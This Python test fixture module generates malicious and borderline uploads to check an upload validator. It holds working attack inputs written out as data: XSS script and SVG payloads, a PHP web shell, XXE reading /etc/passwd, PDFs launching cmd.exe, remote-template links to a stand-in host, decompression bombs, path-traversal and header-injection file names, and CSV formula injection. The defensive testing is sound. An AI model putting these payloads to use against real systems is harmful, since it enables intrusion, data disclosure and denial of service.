"""Files that mean harm, and some that only look so, as (file name, bytes) by what they are."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from tests.duo_files import a_csv, a_row
from tests.platform_site.serving.test_documents import REAL, an_archive

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!doctype html><title>x</title>" + SCRIPT
PHP = b"<?php system($_GET['x']); ?>"
EXE = b"MZ\x90\x00" + bytes(400)


# --- pictures ---------------------------------------------------------------------------------------------------------


def picture(kind: str = "png", size: tuple[int, int] = (400, 200), **options) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "teal").save(file, kind, **options)
    return file.getvalue()


def png_part(kind: bytes, inside: bytes) -> bytes:
    return struct.pack(">I", len(inside)) + kind + inside + struct.pack(">I", zlib.crc32(kind + inside))


def png_with(*parts: bytes) -> bytes:
    whole = picture()
    return whole[:33] + b"".join(parts) + whole[33:]


def png_that_says_it_is(width: int, height: int) -> bytes:
    header = png_part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_part(b"IDAT", zlib.compress(bytes(1000))) + png_part(b"IEND", b"")


def noted(kind: str) -> bytes:
    """A picture whose notes hold a page of a web site."""
    notes = Image.Exif()
    notes[0x010E] = notes[0x013B] = SCRIPT.decode()
    return picture(kind, exif=notes)


def noted_png() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    told.add_itxt("XML:com.adobe.xmp", SVG.decode())
    return picture(pnginfo=told)


def moving(frames: int, size: int) -> bytes:
    file = io.BytesIO()
    pictures = [Image.new("L", (size, size), number * 7 % 255) for number in range(frames)]
    pictures[0].save(file, "gif", save_all=True, append_images=pictures[1:])
    return file.getvalue()


BOMB_IN_PNG = zlib.compress(bytes(80 * 1024 * 1024), 9)

# name: (file name, bytes)
REFUSED_PICTURES = {
    "a drawing with a script": ("plaatje.svg", SVG),
    "a drawing that is called png": ("plaatje.png", SVG),
    "a packed drawing": ("plaatje.svgz", zlib.compress(SVG)),
    "a page of a web site": ("plaatje.html", HTML),
    "a page that is called jpg": ("plaatje.jpg", HTML),
    "a page after the first bytes of a gif": ("plaatje.gif", b"GIF89a/*" + HTML + b"*/=1;"),
    "a page after the first bytes of a png": ("plaatje.png", b"\x89PNG\r\n\x1a\n" + HTML),
    "a program": ("plaatje.exe", EXE),
    "a program that is called png": ("plaatje.png", EXE),
    "a script of a server": ("plaatje.php", PHP),
    "a picture that is called a script": ("plaatje.php", picture()),
    "a picture that is called nothing": ("plaatje", picture()),
    "a picture with two endings, the last one bad": ("plaatje.png.html", picture()),
    "one kind that is called another": ("plaatje.jpg", picture("png")),
    "a bitmap": ("plaatje.bmp", picture("bmp")),
    "a bitmap that is called png": ("plaatje.png", picture("bmp")),
    "a scan": ("plaatje.tiff", picture("tiff")),
    "an icon": ("plaatje.ico", picture("ico")),
    "a print program": ("plaatje.png", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n"),
    "nothing": ("plaatje.png", b""),
    "one byte": ("plaatje.png", b"\x89"),
    "the first half": ("plaatje.png", picture()[:60]),
    "the first half of a photo": ("plaatje.jpg", picture("jpeg")[:300]),
    "the first half of a webp": ("plaatje.webp", picture("webp")[:60]),
    "the first half of an avif": ("plaatje.avif", picture("avif")[:120]),
    "four thousand million pixels": ("plaatje.png", png_that_says_it_is(65_000, 65_000)),
    "sides without end": ("plaatje.png", png_that_says_it_is(2**31 - 1, 1)),
    "no width": ("plaatje.png", png_that_says_it_is(0, 10)),
    "50 megapixels": ("plaatje.png", picture(size=(10_000, 5_000))),
    "a film of 45 megapixels": ("plaatje.gif", moving(45, 1000)),
    "a profile that unpacks to 80 MB": ("plaatje.png", png_with(png_part(b"iCCP", b"x\x00\x00" + BOMB_IN_PNG))),
    "a text that unpacks to 80 MB": ("plaatje.png", png_with(png_part(b"zTXt", b"x\x00\x00" + BOMB_IN_PNG))),
    "more than 8 MB": ("plaatje.png", picture() + bytes(9 * 1024 * 1024)),
}
# What is welcome: nothing of what was hidden in it is left.
BARE_PICTURES = {
    "notes with a script in a photo": ("plaatje.jpg", noted("jpeg")),
    "notes with a script in a webp": ("plaatje.webp", noted("webp")),
    "texts with a script": ("plaatje.png", noted_png()),
    "a page behind a photo": ("plaatje.jpg", picture("jpeg") + HTML),
    "an archive behind a picture": ("plaatje.png", picture() + an_archive("script.js")),
    "a script of a server behind a picture": ("plaatje.gif", picture("gif") + PHP),
}
ODD_NAMES = {
    "up": "../../../../tmp/plaatje.png",
    "up on Windows": "..\\..\\plaatje.png",
    "a whole path": "/etc/cron.d/plaatje.png",
    "an empty character": "plaat\x00je.png",
    "turned round": "plaatje\u202egnp.png",
    "300 long": "x" * 300 + ".png",
    "a header": "plaatje%0D%0ASet-Cookie: a=b.png",
    "a script": "<img src=x onerror=alert(1)>.png",
    "a question": "plaatje.png?.png",
    "two endings": "plaatje.php.png",
    "hidden": ".htaccess.png",
    "in other letters": "плакат🙂.png",
}

# --- documents --------------------------------------------------------------------------------------------------------


MAIN_PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def office(extension: str = "docx", **parts: bytes | str) -> bytes:
    """An Office document with these parts besides, by their path."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": "<xml/>", MAIN_PART[extension]: "<xml/>", **parts}.items():
            archive.writestr(name, content)
    return file.getvalue()


def open_document(*names: str) -> bytes:
    return an_archive("content.xml", *names, mimetype="application/vnd.oasis.opendocument.text")


def relation(kind: str, target: str) -> bytes:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r1" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()


def pdf(*objects: bytes) -> bytes:
    return REAL["pdf"] + b"\n".join(objects) + b"\n%%EOF\n"


def packed(inside: bytes) -> bytes:
    data = zlib.compress(inside)
    return (
        b"5 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(data)
        + data
        + b"\nendstream endobj"
    )


def bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<xml/>")
        archive.writestr("word/document.xml", "<xml/>")
        for number in range(11):
            archive.writestr(f"word/media/{number}.bmp", bytes(50 * 1024 * 1024))
    return file.getvalue()


JAVASCRIPT = b"4 0 obj <</Type/Action /S/JavaScript /JS(app.alert(1))>> endobj"
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
REFUSED_DOCUMENTS = {
    "a page": ("stuk.html", HTML),
    "a page that is called pdf": ("stuk.pdf", HTML),
    "a page before a pdf": ("stuk.pdf", HTML + REAL["pdf"]),
    "a drawing": ("stuk.svg", SVG),
    "a drawing that is called docx": ("stuk.docx", SVG),
    "a program": ("stuk.exe", EXE),
    "a program that is called pdf": ("stuk.pdf", EXE),
    "a script of a server": ("stuk.php", PHP),
    "a script": ("stuk.js", b"alert(1)"),
    "a shortcut": ("stuk.url", b"[InternetShortcut]\nURL=file://kwaad.test/x"),
    "an archive": ("stuk.zip", an_archive("a.txt")),
    "an archive that is called docx": ("stuk.docx", an_archive("a.txt")),
    "a document with two endings, the last one bad": ("stuk.pdf.exe", REAL["pdf"]),
    "a document that is called nothing": ("stuk", REAL["pdf"]),
    "a document with macros by its name": ("stuk.docm", office()),
    "nothing": ("stuk.pdf", b""),
    "one byte": ("stuk.docx", b"P"),
    "the first half": ("stuk.docx", REAL["docx"][: len(REAL["docx"]) // 2]),
    "the first half of an odt": ("stuk.odt", REAL["odt"][: len(REAL["odt"]) // 2]),
    "one kind that is called another": ("stuk.pptx", REAL["xlsx"]),
    "macros": ("stuk.docx", office(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macros of Excel": ("stuk.xlsx", office("xlsx", **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macros under another name": ("stuk.docx", office(**{"word/_rels/document.xml.rels": relation("vbaProject", "a.bin")})),
    "macros of LibreOffice": ("stuk.odt", open_document("Basic/Standard/Module1.xml")),
    "scripts of LibreOffice": ("stuk.odt", open_document("Scripts/python/kwaad.py")),
    "a control": ("stuk.pptx", office("pptx", **{"ppt/activeX/activeX1.bin": b"x"})),
    "an embedded program": ("stuk.docx", office(**{"word/embeddings/oleObject1.bin": b"x"})),
    "a template from elsewhere": ("stuk.docx", office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://kwaad.test/x.dotm")})),
    "a template of another machine": ("stuk.docx", office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "file://kwaad/x.dotm")})),
    "an object from elsewhere": ("stuk.docx", office(**{"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://kwaad.test!x")})),
    "a frame from elsewhere": ("stuk.docx", office(**{"word/_rels/webSettings.xml.rels": relation("frame", "\\\\kwaad\\x")})),
    "a definition of entities": ("stuk.docx", office(**{"word/footer.xml": DTD})),
    "a definition of entities in UTF-16": ("stuk.docx", office(**{"word/footer.xml": DTD.encode("utf-16")})),
    "550 MB packed": ("stuk.docx", bomb()),
    "a PDF that runs a script": ("stuk.pdf", pdf(JAVASCRIPT)),
    "a PDF that runs a script, spelled otherwise": ("stuk.pdf", pdf(JAVASCRIPT.replace(b"/JavaScript", b"/J#61v#61Script"))),
    "a PDF that runs a packed script": ("stuk.pdf", pdf(packed(b"4 0 " + JAVASCRIPT[8:]))),
    "a PDF that starts a program": ("stuk.pdf", pdf(b"4 0 obj <</S /Launch /F (cmd.exe)>> endobj")),
    "a PDF with a film in it": ("stuk.pdf", pdf(b"4 0 obj <</Subtype/RichMedia>> endobj")),
    "more than 25 MB": ("stuk.pdf", REAL["pdf"] + bytes(25 * 1024 * 1024)),
}  # fmt: skip
WELCOME_DOCUMENTS = {
    "a PDF with a page of a web site in it": ("stuk.pdf", pdf(HTML)),
    "a PDF that is an archive too": ("stuk.pdf", REAL["pdf"] + an_archive("a.js")),
    "a PDF that opens on a page": ("stuk.pdf", pdf(b"1 0 obj <</OpenAction [3 0 R /Fit]>> endobj")),
    "a link to a site": ("stuk.docx", office(**{"word/_rels/document.xml.rels": relation("hyperlink", "https://school.test/")})),
    "a template on the writer's own disk": ("stuk.docx", office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\Users\\anna\\Sjabloon.dotx")})),
    "a text on macros": ("stuk.docx", office(**{"word/footer.xml": "<w>vbaProject en macroEnabled</w>"})),
}  # fmt: skip
REFUSED_REGISTERS = {
    "a page": ("po.csv", HTML),
    "a program": ("po.csv", EXE),
    "a document": ("po.xlsx", REAL["docx"]),
    "an archive": ("po.xlsx", an_archive("a.csv")),
    "nothing": ("po.csv", b""),
    "empty characters": ("po.csv", bytes(10_000)),
    "one line without end": ("po.csv", b"x;" * 2_000_000),
    "a bomb": ("po.xlsx", bomb()),
    "formulas": ("po.csv", a_csv([a_row(VESTIGINGSNAAM="=HYPERLINK(1)")])),
    "quotes that never end": ("po.csv", a_csv([a_row()]) + b'"' + b"x\n" * 5000),
}
